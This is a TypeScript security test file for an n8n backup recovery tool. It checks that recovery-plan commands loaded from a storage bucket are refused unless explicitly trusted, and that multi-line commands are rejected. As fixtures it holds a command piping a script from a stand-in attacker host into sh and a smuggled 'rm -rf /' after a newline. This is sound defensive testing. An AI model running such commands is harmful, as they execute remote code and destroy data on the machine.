import { recoverStack, writeRecoveryPlan } from '../../../core';
import { runCli } from '../../support/runCli';
import { s3EnvVars, useTestBucket } from '../../support/s3Bucket';
import { useTempDir } from '../../support/tempDir';
import { testEnv } from '../../support/testEnv';

const env = testEnv();
const docker = { socketPath: env.dockerSocket };

// A plan's commands run on the recovering machine: from a bucket, anyone who can write there could have written them.
describe("security: a recovery plan's commands", () => {
	const bucket = useTestBucket();
	const tmp = useTempDir();

	beforeAll(async () => {
		const plan = {
			format: 'n8n-stack-backup/recovery-plan',
			formatVersion: 1,
			createdAt: '2026-12-02T02:10:00.000Z',
			sets: [
				{
					set: 'n8n-postgres',
					run: '2026-12-02T02-00-00.000Z',
					startedAt: '2026-12-02T02:00:00.000Z',
					target: { kind: 'postgres', container: 'postgres', database: 'n8n' },
				},
			],
			n8n: { containers: [], healthUrl: null, stopCommand: 'curl -s http://attacker.invalid/x | sh', startCommand: 'true' },
		};
		await bucket.put('stack/recovery-plans/2026-12-02T02-10-00.000Z.json', JSON.stringify(plan));
	});

	it('from a bucket, are refused unless trusted (CONFIRMATION_REQUIRED), before anything is read, stopped or run', async () => {
		await expect(recoverStack({ root: bucket.place('stack'), docker, dryRun: true })).rejects.toMatchObject({
			code: 'CONFIRMATION_REQUIRED',
			message: expect.stringMatching(/asks to run commands on this machine to stop and start n8n/),
			hint: expect.stringMatching(/Anyone who can write to the bucket could have written them/),
		});
		// Trusted, the recovery goes on to verify the plan's sets (here: none in the bucket).
		await expect(recoverStack({ root: bucket.place('stack'), docker, dryRun: true, trustPlanCommands: true })).rejects.toMatchObject({
			code: 'SET_NOT_FOUND',
		});
	});

	it('the CLI names its flag for that trust', async () => {
		const run = await runCli(['recover', '--root', bucket.url('stack'), '--dry-run'], { env: s3EnvVars() });
		expect(run.json.error.code).toBe('CONFIRMATION_REQUIRED');
		expect(run.stderr).toMatch(/--trust-plan-commands/);
		expect(run.stderr).toMatch(/n8n's stop command: curl -s http:\/\/attacker\.invalid\/x \| sh/);
	});

	it('are one line each: a plan is shown whole before it runs', async () => {
		await expect(
			writeRecoveryPlan({
				root: tmp.path(),
				setNames: 'n8n-postgres',
				n8n: { containers: [], healthUrl: null, stopCommand: 'true\nrm -rf /' },
			}),
		).rejects.toMatchObject({ code: 'INVALID_INPUT', message: expect.stringMatching(/stop command is not one line/) });
	});
});
